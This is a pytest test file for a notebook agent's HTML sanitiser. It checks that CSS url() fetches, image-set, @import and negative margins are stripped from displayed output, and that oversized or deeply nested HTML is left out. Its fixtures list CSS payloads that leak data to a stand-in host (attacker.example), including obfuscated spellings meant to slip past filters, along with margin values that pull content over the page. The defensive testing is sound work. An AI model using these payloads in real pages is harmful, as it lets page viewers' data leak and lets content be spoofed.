"""Displayed HTML cannot make the page fetch through CSS nor pull itself over what is shown above
it, and cleaning it is bounded: a style's ``url()`` (however spelt), a negative margin and
``<style>``/``@import`` are dropped in the live view and in materialised cells; HTML too long or
nested too deep is left out with a one-line note (its text kept); each display is cleaned once,
however many places show it."""

from __future__ import annotations

import pytest

from nbagent.notebook.document.cells import outputs_of
from nbagent.notebook.executor import CapturedDisplay, ExecutionRecord
from nbagent.notebook.view import safe
from nbagent.notebook.view.safe import MAX_HTML_CHARS, MAX_HTML_DEPTH, clean_html, nesting_depth, safe_display_data
from nbagent.notebook.view.tools import ToolCard
from nbagent.tools.executor import ExecutionResult

FETCHING_STYLES = (
    "background:url(https://attacker.example/leak?d=1)",
    "background-image:URL('https://attacker.example/leak')",
    "background:\\75 rl(https://attacker.example/leak)",  # a CSS escape spells url(
    "background:u/**/rl(https://attacker.example/leak)",
    "background-image:image-set('https://attacker.example/leak' 1x)",
    "background-image:-webkit-image-set(url(https://attacker.example/leak) 1x)",
    "border:1px solid; border-image:url(https://attacker.example/leak)",
    "background:url (https://attacker.example/leak)",
)


@pytest.mark.parametrize("style", FETCHING_STYLES)
def test_a_style_that_could_fetch_is_dropped_and_colours_stay(style: str) -> None:
    html = f'<td style="color:rgb(200, 0, 0);{style};background-color:var(--jp-layout-color2)">x</td>'
    cleaned = clean_html(f"<table><tr>{html}</tr></table>")
    assert "attacker" not in cleaned and "url" not in cleaned.lower() and "image-set" not in cleaned
    assert "color:rgb(200, 0, 0)" in cleaned and "background-color:var(--jp-layout-color2)" in cleaned


PULLING_MARGINS = (
    "margin:-9999px 0 0 -9999px",
    "margin: 0 0 0 -.5em",
    "MARGIN : 0 -100vw",
    "margin:calc(-1 * 100vh)",
    "margin:calc(0px - 100vh) 0",
    "margin:var(--gap, -50px)",
    "margin-top:-500px",
    "margin-left:-9999px",
)


@pytest.mark.parametrize("margin", PULLING_MARGINS)
def test_a_negative_margin_is_dropped_and_a_positive_one_stays(margin: str) -> None:
    cleaned = clean_html(f'<div style="{margin};color:red">over</div><div style="margin:2px 0 4px">under</div>')
    assert cleaned == '<div style="color:red">over</div><div style="margin:2px 0 4px">under</div>'


def test_style_elements_and_imports_are_dropped() -> None:
    cleaned = clean_html("<style>@import url(https://attacker.example/x.css); td{color:red}</style><b>kept</b>")
    assert cleaned == "<b>kept</b>"


def test_a_materialised_cell_gets_the_same_fetch_free_html() -> None:
    record = ExecutionRecord("show()", ExecutionResult(), 0.0, 0.0, (
        {"data": {"text/html": '<div style="background:url(https://attacker.example/leak)">chart</div>',
                  "text/plain": "chart"}, "metadata": {}},))
    (output,) = outputs_of(record)
    assert "attacker" not in output["data"]["text/html"] and "chart" in output["data"]["text/html"]


def _count_cleaning(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    calls: list[str] = []
    text_clean, output_clean = safe._cleaners()

    def counting(html: str) -> str:
        calls.append(html)
        return output_clean(html)

    monkeypatch.setattr(safe, "_cleaners", lambda: (text_clean, counting))
    return calls


def test_deeply_nested_html_is_left_out_with_a_note_and_its_text_kept(monkeypatch: pytest.MonkeyPatch) -> None:
    calls = _count_cleaning(monkeypatch)
    deep = "<div>" * 50_000 + "x" + "</div>" * 50_000  # 0.55 MB: 6.5 s in the sanitiser before
    assert nesting_depth(deep) == MAX_HTML_DEPTH + 1  # the scan stops as soon as it is too deep
    safe_data = safe_display_data({"text/html": deep, "text/plain": "<Deep>"})
    assert safe_data["text/plain"] == "<Deep>"
    assert safe_data["text/html"].startswith('<div class="nbagent-left-out"')
    assert f"tags nested more than {MAX_HTML_DEPTH} deep" in safe_data["text/html"]
    long = "<p>" + "x" * MAX_HTML_CHARS + "</p>"
    assert "characters (more than 1,000,000)" in clean_html(long)
    assert calls == []  # neither reached the sanitiser


def test_a_table_nests_shallow_however_many_rows_it_has() -> None:
    rows = "<tr><td>1<td>2" * 5_000  # end tags a table may leave out
    assert nesting_depth(f"<table><tbody>{rows}</tbody></table>") == 1
    assert "left out" not in clean_html(f"<table>{rows}</table>")


def test_each_display_is_cleaned_once_for_the_card_its_transcript_and_its_cell(monkeypatch: pytest.MonkeyPatch) -> None:
    calls = _count_cleaning(monkeypatch)
    bundle: CapturedDisplay = {"data": {"text/html": "<table><tr><td>a unique display 7f3a</td></tr></table>",
                                        "text/plain": "t"}, "metadata": {}}
    card = ToolCard("t1", "python")
    card.add_outputs([bundle])  # the live card
    assert "a unique display 7f3a" in card.html()  # its static transcript
    record = ExecutionRecord("show()", ExecutionResult(), 0.0, 0.0, (bundle,))
    assert "a unique display 7f3a" in outputs_of(record)[0]["data"]["text/html"]  # the materialised cell
    assert len(calls) == 1
